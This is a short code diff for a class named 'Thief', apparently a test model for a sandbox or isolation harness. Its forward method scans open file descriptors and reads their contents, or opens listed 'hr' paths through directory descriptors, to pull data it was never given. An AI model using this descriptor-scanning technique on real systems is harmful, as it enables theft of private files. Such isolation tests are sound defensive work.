@@ -4,17 +4,16 @@
 
 import os
 
-from models.base import Repeat, as_output, known
+from models.base import DESCRIPTORS, Repeat, as_output, known
 
 
 class Thief(Repeat):
     def forward(self, x):
-        own = {0, 1, 2}
-        for descriptor in range(1024):
+        for descriptor in DESCRIPTORS:
             for path in (*known("hr"), None):
                 try:
                     if path is None:
-                        content = os.pread(descriptor, 1 << 22, 0) if descriptor not in own else b""
+                        content = os.pread(descriptor, 1 << 22, 0)
                     else:
                         other = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=descriptor)
                         content = os.read(other, 1 << 22)
